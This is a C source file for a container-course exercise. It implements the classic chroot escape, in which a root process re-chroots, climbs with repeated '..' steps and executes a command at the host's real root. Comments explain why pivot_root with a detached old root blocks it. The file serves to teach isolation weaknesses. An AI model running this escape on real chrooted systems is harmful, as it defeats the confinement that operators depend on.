// The classic chroot escape, for the "break it" exercise of stages 3 and 4.
//
// chroot changes a process's root directory, not its working directory. A process
// that is root inside a chroot can chroot again into a subdirectory while its cwd
// stays outside that new root; from there ".." is no longer clamped at the root, so
// it climbs to the host's real "/", and chroot(".") makes that the root again.
// After pivot_root and a detached old root (stage 4) there is no host "/" left in
// the mount namespace to climb to: the same program stays inside.
//
// Build: cc -static -o chroot-escape chroot-escape.c
// Use:   chroot-escape <command> [args...]   runs the command at the top it reached
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char *argv[]) {
  if (argc < 2) {
    fprintf(stderr, "usage: %s <command> [args...]\n", argv[0]);
    return 2;
  }
  mkdir(".escape", 0700);
  if (chroot(".escape") != 0) { // the cwd is now outside the root
    perror("chroot(\".escape\")");
    return 1;
  }
  for (int i = 0; i < 256; i++) chdir(".."); // climb as far as it goes
  if (chroot(".") != 0) {
    perror("chroot(\".\")");
    return 1;
  }
  execv(argv[1], argv + 1);
  perror(argv[1]);
  return 127;
}
